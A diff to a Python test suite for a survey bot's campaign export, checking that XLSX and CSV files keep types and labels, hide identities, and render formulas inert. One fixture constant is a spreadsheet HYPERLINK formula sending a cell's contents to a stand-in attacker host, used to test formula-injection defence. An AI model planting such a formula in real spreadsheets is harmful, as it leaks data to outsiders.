@@ -9,6 +9,7 @@ import stat
 from pathlib import Path
 from typing import Any
 
+import openpyxl
 import pytest
 
 from bot.access.organisations import DEFAULT_ORG
@@ -19,6 +20,7 @@ from dialogues.inbound import Decline, Skip
 from tests.bot.commands import Deployment, sauti
 from tests.kit import stored
 from tests.kit.example import CAMPAIGN
+from tests.kit.sheets import about
 
 STORY = "Soldiers at the checkpoint read my messages, habari"  # free text, sealed in Redis
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'  # typed by someone in the public
@@ -243,3 +245,68 @@ async def _join_anyone(deployment: Deployment, number: int) -> str:
     pid = deployment.participant(f"someone-{number}")
     await deployment.send(pid, Join(CAMPAIGN, "en"))
     return pid
+
+
+async def test_an_xlsx_file_has_labels_numbers_as_numbers_and_inert_formulas(
+    deployment: Deployment, capsys: pytest.CaptureFixture[str], tmp_path: Path
+) -> None:
+    pids = await _seen_as(deployment, await _three_participants(deployment))
+    output = tmp_path / "responses.xlsx"
+    assert (
+        await sauti(
+            "campaign", "export", CAMPAIGN, "--format", "xlsx", "--labels", "--output", str(output)
+        )
+        == 0
+    )
+    assert stat.S_IMODE(output.stat().st_mode) == 0o600
+    book = openpyxl.load_workbook(output)
+    header, *rows = list(book["Responses"].iter_rows(values_only=True))
+    assert header[:8] == (*HEADER[:6], "uses_label", "money_safe")
+    by_name = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
+    juma, amina = by_name[pids["juma"]], by_name[pids["amina"]]
+    assert (juma["outages"], juma["trust"]) == (0, 5)  # numbers, not text
+    assert (juma["started_at"], juma["updated_at"]) == (JOINED, ANSWERED)
+    assert juma["change"] == "'" + FORMULA
+    assert (juma["unsafe"], juma["unsafe_label"]) == ("(declined)", None)
+    assert (amina["uses"], amina["uses_label"]) == ("calls;money", "Calls; Mobile money")
+    assert amina["cut_effect_label"] == "Reach my family; Get news or alerts"
+    assert amina["unsafe_what"] == STORY
+    told = about(book["About"])
+    assert (told["Exported by"], told["Respondents"]) == ("operator", 3)
+    _assert_nothing_identifying(str(list(book["Responses"].iter_rows(values_only=True))))
+    assert "exported 3 respondents" in capsys.readouterr().err
+
+
+async def test_a_csv_file_starts_with_a_byte_order_mark_and_labels_in_a_chosen_language(
+    deployment: Deployment, tmp_path: Path
+) -> None:
+    pids = await _seen_as(deployment, await _three_participants(deployment))
+    output = tmp_path / "responses.csv"
+    assert (
+        await sauti(
+            "campaign", "export", CAMPAIGN, "--labels", "--language", "sw", "--output", str(output)
+        )
+        == 0
+    )
+    raw = output.read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf")
+    rows = {r["participant"]: r for r in csv.DictReader(io.StringIO(raw.decode("utf-8-sig")))}
+    assert rows[pids["amina"]]["uses_label"] == "Kupiga simu; Pesa kwa simu"
+    assert (rows[pids["amina"]]["unsafe_label"], rows[pids["amina"]]["sim_id_label"]) == (
+        "Ndiyo",
+        "Hapana",
+    )
+
+
+async def test_a_language_the_campaign_lacks_is_refused(
+    deployment: Deployment, capsys: pytest.CaptureFixture[str], tmp_path: Path
+) -> None:
+    output = tmp_path / "responses.csv"
+    assert (
+        await sauti(
+            "campaign", "export", CAMPAIGN, "--labels", "--language", "zu", "--output", str(output)
+        )
+        == 2
+    )
+    assert "choose one of en, fr, ar, sw" in capsys.readouterr().err
+    assert not output.exists()
